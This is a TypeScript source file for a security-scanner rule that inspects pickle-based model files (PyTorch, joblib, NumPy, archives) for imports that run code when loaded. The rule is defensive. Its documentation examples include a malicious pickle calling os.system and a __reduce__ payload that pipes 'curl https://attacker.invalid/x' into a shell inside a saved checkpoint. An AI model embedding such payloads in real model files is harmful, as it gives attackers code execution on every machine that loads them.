import { defineRule, type FileContext } from '../../engine/rule.js';
import { FormatError } from '../../formats/errors.js';
import { DEFAULT_ALLOW, makeClassifier, type Classifier } from '../../formats/pickle-globals.js';
import { scanPickleStream, type PickleScan } from '../../formats/pickle.js';
import { pickleSources, type PickleSource, type SourceIssue } from '../../formats/pickle-sources.js';

type Level = 'critical' | 'high' | 'medium' | 'low';
interface Options { allow: string[]; deny: string[]; unknown: Level | 'off' }

const ENTRY = { type: 'string', pattern: '^[A-Za-z_][\\w]*(\\.[A-Za-z_][\\w]*)*(\\.\\*)?$' };
const DONT = 'do not load it; if it is your model, re-save the weights with safetensors';
const MAX_LISTED = 5;

export default defineRule<Options>({
  meta: {
    id: 'model/unsafe-pickle',
    description: 'A pickle inside a model file imports callables that run code, open files or connect out when it is loaded.',
    help: [
      'Loading a pickle (`pickle.load`, `torch.load` without `weights_only=True`, `joblib.load`, `np.load(allow_pickle=True)`)',
      'imports every global the file names and calls whatever it says: a checkpoint that names `os.system` runs a',
      'shell command on every machine that loads it. This rule reads the pickle opcodes (never unpickling them) in raw',
      'pickles under any name, PyTorch zip and legacy checkpoints, joblib dumps, object arrays in `.npy`/`.npz`, and',
      'pickles inside zip, tar, gzip and stored 7z archives. Each import is checked against a denylist (critical),',
      'and against an allowlist of the tensor-rebuilding globals of PyTorch, NumPy and scikit-learn; anything else is',
      'reported at the `unknown` severity. Names computed at load time, attribute overwrites of imported modules and',
      'archives that cannot be opened are reported too: what cannot be verified is never passed as clean.',
      '',
      '**Remediation**: do not load the file. Re-export the weights with safetensors (`safetensors.torch.save_file`) or',
      'load them with `torch.load(..., weights_only=True)`. If an unknown global is a class of your own that you trust,',
      'add it to the policy: `model/unsafe-pickle: { allow: [mypkg.models.MyClassifier] }`.',
    ].join('\n'),
    defaultSeverity: 'critical',
    docs: {
      examples: {
        bad: [
          {
            title: 'A protocol-0 pickle is plain text: this one calls os.system("echo pwned") when loaded',
            lang: 'text',
            file: 'models/model.pkl',
            code: [
              'cos',
              'system',
              '(S\'echo pwned\'',
              'tR.',
            ].join('\n'),
          },
          {
            title: 'How such files are made: any object whose __reduce__ returns a callable',
            lang: 'python',
            code: [
              'class Payload:',
              '    def __reduce__(self):',
              '        import os',
              '        return (os.system, (\'curl https://attacker.invalid/x | sh\',))',
              '',
              'torch.save({\'state_dict\': weights, \'extra\': Payload()}, \'model.pt\')',
            ].join('\n'),
          },
        ],
        good: [
          {
            title: 'A pickle of plain data (a dict of numbers) imports nothing',
            lang: 'text',
            file: 'models/config.pkl',
            code: [
              '(dp0',
              'S\'lr\'',
              'p1',
              'F0.01',
              's.',
            ].join('\n'),
          },
          {
            title: 'Weights saved and loaded without unpickling',
            lang: 'python',
            code: [
              'from safetensors.torch import load_file, save_file',
              '',
              'save_file(model.state_dict(), \'model.safetensors\')',
              'model.load_state_dict(load_file(\'model.safetensors\'))',
              '# a pickle-based checkpoint you must read: tensors and containers only',
              'state = torch.load(\'legacy.pt\', weights_only=True)',
            ].join('\n'),
          },
        ],
      },
      references: [
        { title: 'Python documentation: pickle (the security warning)', url: 'https://docs.python.org/3/library/pickle.html' },
        { title: 'PyTorch documentation: torch.load and weights_only', url: 'https://pytorch.org/docs/stable/generated/torch.load.html' },
        { title: 'Hugging Face Hub: pickle scanning', url: 'https://huggingface.co/docs/hub/security-pickle' },
        { title: 'safetensors', url: 'https://huggingface.co/docs/safetensors/index' },
        { title: 'picklescan (the sample corpus our tests compare with)', url: 'https://github.com/mmaitre314/picklescan' },
      ],
    },
    kinds: ['model', 'binary'],
    formats: ['pickle', 'pytorch-zip', 'torch-legacy', 'joblib', 'npy', 'npz', 'zip', 'keras', '7z', 'gzip', 'bzip2', 'xz', 'zstd', 'tar'],
    options: {
      type: 'object',
      properties: {
        allow: { type: 'array', items: ENTRY, uniqueItems: true, description: 'Globals accepted besides the built-in allowlist: `module.name`, or `module.*` for a module and its submodules.' },
        deny: { type: 'array', items: ENTRY, uniqueItems: true, description: 'Globals reported as critical besides the built-in denylist (same syntax as allow).' },
        unknown: { enum: ['critical', 'high', 'medium', 'low', 'off'], description: 'Severity for globals on neither list (`strict` fails on medium, so there anything not allowed fails).' },
      },
      additionalProperties: false,
    },
    defaultOptions: { allow: [], deny: [], unknown: 'medium' },
  },
  async checkFile(ctx) {
    const { file } = ctx;
    const classifier = makeClassifier([...DEFAULT_ALLOW, ...ctx.options.allow], ctx.options.deny);
    const issues: SourceIssue[] = [];
    let sources = 0;
    const read = (o: number, l: number) => ctx.reader.read(o, l);
    try {
      for await (const source of pickleSources(file, { read, stream: (n) => ctx.reader.stream(n) }, issues)) {
        sources++;
        let scan: PickleScan;
        try {
          scan = await scanPickleStream(source.chunks, { maxPickles: source.maxPickles });
        } catch (error) {
          if (!(error instanceof FormatError)) throw error;
          issues.push({ kind: 'unscannable', member: source.member, message: `${where(source)} cannot be read (${error.message})` });
          continue;
        }
        reportScan(ctx, classifier, scan, source);
        for (const a of source.anomalies) issues.push({ kind: 'anomaly', member: source.member, message: a });
      }
    } catch (error) {
      if (!(error instanceof FormatError)) throw error;
      issues.push({ kind: 'unscannable', message: `the file cannot be read as ${file.format} (${error.message})` });
    }
    // A zip of documents is not this rule's business unless it holds a pickle (or is named as a model).
    reportIssues(ctx, file.kind === 'model' || sources > 0 ? issues : issues.filter((i) => i.kind === 'unscannable'));
  },
});

const where = (s: PickleSource): string => (s.member ? `member ${s.member}` : 'the pickle');
const op = (opcode: string, offset: number): string => `${opcode} at byte ${offset}`;

function reportScan(ctx: FileContext<Options>, classifier: Classifier, scan: PickleScan, src: PickleSource): void {
  const member = src.member;
  const at = (offset: number) => offset + src.baseOffset;
  const unknown: string[] = [];
  let firstUnknown = -1;
  for (const g of scan.globals) {
    const q = `${g.module}.${g.name}`;
    const place = g.depth > 0 ? `${g.opcode} in a pickle nested in the call at byte ${at(g.offset)}` : op(g.opcode, at(g.offset));
    if (!g.resolved) {
      ctx.report({
        severity: g.bounded ? 'high' : 'critical', member, byteOffset: at(g.offset), fingerprintKey: `unresolved\0${g.why}`,
        message: `Loading this file imports a global whose name is computed at load time (${place}: ${g.why}); scanners cannot see what it imports, so treat it as code execution: ${DONT}.`,
      });
      continue;
    }
    const c = classifier.classify(g.module, g.name);
    if (c.level === 'deny') {
      const alias = c.matched !== q ? `, which resolves to ${c.matched}` : '';
      ctx.report({
        severity: 'critical', member, byteOffset: at(g.offset), fingerprintKey: `deny\0${q}`,
        message: `Loading this file imports ${q}${alias} (${place}), which ${c.category}: ${DONT}.`,
      });
    } else if (c.level === 'unknown') {
      if (firstUnknown < 0) firstUnknown = at(g.offset);
      if (!unknown.includes(q)) unknown.push(q);
    }
  }
  if (unknown.length && ctx.options.unknown !== 'off') {
    const list = unknown.slice(0, MAX_LISTED).join(', ') + (unknown.length > MAX_LISTED ? `, and ${unknown.length - MAX_LISTED} more` : '');
    ctx.report({
      severity: ctx.options.unknown, member, byteOffset: firstUnknown, fingerprintKey: `unknown\0${unknown.join(',')}`,
      message: `Loading this file imports ${unknown.length === 1 ? 'a global' : `${unknown.length} globals`} on neither the allowlist nor the denylist: ${list}; check what ${unknown.length === 1 ? 'it does' : 'they do'} and add trusted ones to the rule's allow option.`,
    });
  }
  for (const m of scan.mutations) {
    ctx.report({
      severity: 'critical', member, byteOffset: at(m.offset), fingerprintKey: `mutation\0${m.target}`,
      message: `Loading this file overwrites attributes of the imported object ${m.target} (BUILD/SETITEM at byte ${at(m.offset)}), a way to make later imports resolve to other code: ${DONT}.`,
    });
  }
  if (scan.calls.length) {
    const c = scan.calls[0];
    ctx.report({
      severity: 'high', member, byteOffset: at(c.offset), fingerprintKey: 'computed-call',
      message: `Loading this file calls ${scan.calls.length === 1 ? 'an object' : `${scan.calls.length} objects`} computed at load time (first at byte ${at(c.offset)}${c.via ? `, the result of ${c.via}` : ''}), a getattr-style chain that hides the real callable: ${DONT}.`,
    });
  }
  const joblibArrays = scan.globals.some((g) => g.module === 'joblib.numpy_pickle');
  if (scan.broken && scan.broken.pickle === 0) {
    ctx.report({
      // joblib writes raw array bytes inside its pickle stream, which this reader does not skip (yet).
      severity: joblibArrays ? 'low' : 'medium', member, byteOffset: at(scan.broken.offset), fingerprintKey: 'broken',
      message: `The pickle stream breaks at byte ${at(scan.broken.offset)} (${scan.broken.message}); a loader runs every opcode before the break, and the findings here cover only that part: re-create the file from its source.`,
    });
  }
  const tail = scan.broken && scan.broken.pickle > 0 ? scan.broken.offset : scan.trailing?.offset;
  if (tail !== undefined && src.maxPickles === undefined) {
    ctx.report({
      severity: 'low', member, byteOffset: at(tail), fingerprintKey: 'trailing',
      message: `Bytes that are not a complete pickle follow the last one, from byte ${at(tail)}; loaders stop at STOP, but data after it can hide a payload from tools that read further: re-create the file from its source.`,
    });
  }
  if (scan.bounded) {
    ctx.report({
      severity: 'medium', member, fingerprintKey: 'bounded',
      message: `The pickle is larger than the scan's bounds (it imports more than 10,000 distinct globals); the ones past that bound were not checked: review the file by hand or re-save it with safetensors.`,
    });
  }
}

function reportIssues(ctx: FileContext<Options>, issues: SourceIssue[]): void {
  const anomalies = issues.filter((i) => i.kind === 'anomaly');
  for (const i of issues.filter((x) => x.kind === 'unscannable')) {
    ctx.report({
      severity: ctx.file.kind === 'model' ? 'high' : 'medium', member: i.member, fingerprintKey: `unscannable\0${i.message}`,
      message: `Cannot scan this file for code that runs when it is loaded: ${i.message}. Store the model uncompressed (or as safetensors) so it can be verified.`,
    });
  }
  if (anomalies.length) {
    const shown = [...new Set(anomalies.map((a) => a.message))];
    ctx.report({
      severity: 'medium', fingerprintKey: 'anomalies',
      message: `The archive is malformed in ways that make tools disagree about its contents (${shown.slice(0, 3).join('; ')}${shown.length > 3 ? `; and ${shown.length - 3} more` : ''}); the gate read it as leniently as PyTorch does: re-create the archive with torch.save or zipfile.`,
    });
  }
}
